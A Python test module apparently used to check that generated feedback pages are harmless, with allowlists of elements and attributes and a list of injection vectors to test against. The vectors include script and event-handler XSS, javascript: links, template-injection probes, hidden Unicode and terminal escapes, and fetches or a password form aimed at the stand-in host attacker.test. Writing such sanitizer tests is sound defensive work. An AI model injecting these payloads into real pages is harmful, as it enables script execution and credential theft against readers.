"""Text that runs, fetches or misleads where a page shows it as it came."""

from __future__ import annotations

import re
from html.parser import HTMLParser

VECTORS = [
    "<script>fired()</script>",
    "<ScRiPt src=http://attacker.test/x.js></ScRiPt>",
    "<img src=x onerror=fired()>",
    "<img src=http://attacker.test/pixel.png>",
    "<svg onload=fired()>",
    "<svg><script>fired()</script></svg>",
    "<svg><animate onbegin=fired() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=fired()>#x'></svg>",
    "<svg><image href=http://attacker.test/i.png></svg>",
    "<svg><style>@import url(http://attacker.test/s.css);</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=fired()></style></table></math>",
    "<body onload=fired()>",
    "<iframe src=javascript:fired()></iframe>",
    "<iframe srcdoc='<script>parent.fired()</script>'></iframe>",
    "<iframe src=http://attacker.test/frame></iframe>",
    "<object data=http://attacker.test/o></object>",
    "<embed src=http://attacker.test/e>",
    "<link rel=stylesheet href=http://attacker.test/l.css>",
    "<link rel=dns-prefetch href=http://attacker.test>",
    "<style>@import 'http://attacker.test/i.css';</style>",
    "<style>body{background:url(http://attacker.test/b.png)}</style>",
    "<div style='background:url(http://attacker.test/d.png)'>x</div>",
    "<p style='position:fixed;inset:0'>Score: 100</p>",
    "<meta http-equiv=refresh content='0;url=http://attacker.test/m'>",
    "<base href=http://attacker.test/>",
    "<form action=http://attacker.test><input name=password autofocus onfocus=fired()></form>",
    "<button onclick=fired() autofocus>Show the score</button>",
    "<details open ontoggle=fired()>",
    "<video><source onerror=fired()></video>",
    "<video poster=http://attacker.test/v.png></video>",
    "<audio src=http://attacker.test/a.mp3 autoplay></audio>",
    "<a href=javascript:fired()>x</a>",
    "<a href='jav&#x09;ascript:fired()'>x</a>",
    "<a href='data:text/html,<script>fired()</script>'>x</a>",
    "<a href='//attacker.test' ping=http://attacker.test/ping>x</a>",
    "<input onfocus=fired() autofocus>",
    "<marquee onstart=fired()>",
    "<table background=http://attacker.test/t.png><tr><td onmouseover=fired()>x</td></tr></table>",
    "<table><tr><td><img src=x onerror=fired()></td><td><script>fired()</script></td></tr></table>",
    "<table><tr><td colspan=99999999 rowspan=65534 style=color:red>x</td></tr></table>",
    "<noscript><p title='</noscript><img src=x onerror=fired()>'>",
    "<template><script>fired()</script></template>",
    "<textarea><img src=x onerror=fired()></textarea>",
    "<title></title><img src=x onerror=fired()>",
    "</pre></code></div><script>fired()</script><pre>",
    "--><script>fired()</script><!--",
    "]]><script>fired()</script>",
    '"><script>fired()</script><a x="',
    "' onmouseover=fired() x='",
    "&lt;script&gt;fired()&lt;/script&gt;",
    "{{ 7*7 }}{% for x in range(9) %}{{ cell.__class__.__mro__ }}{% endfor %}",
    "[x](javascript:fired())",
    "[x](data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+)",
    "[x](vbscript:fired())",
    "[x]( java\nscript:fired())",
    "[x]: javascript:fired()\n\n[x]",
    "<javascript:fired()>",
    "![x](http://attacker.test/markdown.png)",
    '![x](x" onerror="fired())',
    "![x][y]\n\n[y]: http://attacker.test/y.png 'x'",
    "```html\n<script>fired()</script>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=fired()> | [x](javascript:fired()) |",
    "# <script>fired()</script>",
    "\u202egnp.exe\u2066 hidden \u200b text",
    "\x1b]8;;javascript:fired()\x07click\x1b]8;;\x07",
    "\x1b[2J\x1b[31mred",
    '$\\mmlToken{mi}[href="javascript:fired()"]{x}$',
    "$$\\bbox[position:fixed;inset:0;background:red]{100}$$",
]

#: All that may stand on a page of feedback.
ELEMENTS = {
    *("html", "head", "meta", "title", "style", "body", "header", "main", "section", "h1", "h2"),
    *("h3", "p", "strong", "em", "del", "sub", "sup", "bdi", "table", "caption", "thead", "tbody"),
    *("tfoot", "tr", "th", "td", "a", "ul", "ol", "li", "span", "pre", "code", "div", "img", "br"),
    *("hr", "blockquote"),
}
ATTRIBUTES = {
    *("lang", "charset", "http-equiv", "content", "name", "class", "id", "href", "rel", "scope"),
    *("src", "alt", "aria-labelledby", "aria-label", "role", "tabindex", "colspan", "rowspan"),
}


class Seen(HTMLParser):
    """The elements, attributes and text of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        self.elements.add(tag)
        self.attributes += attributes

    def handle_data(self, data):
        self.text += data

    def handle_endtag(self, tag):
        self.text += " " if tag in ("td", "th", "strong", "li") else ""


def assert_harmless(page: str) -> None:
    """Assert that a page of feedback holds nothing but text, still pictures and plain tables."""
    seen = Seen(page)
    assert seen.elements <= ELEMENTS
    for name, value in seen.attributes:
        assert name in ATTRIBUTES
        if name == "href":
            assert value.startswith("#q-")
        if name == "src":
            assert value.startswith("data:image/png;base64,")
        if name in ("colspan", "rowspan"):
            assert int(value) <= 50
    assert page.count("<style") == page.count("<title") == 1
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069]", page)
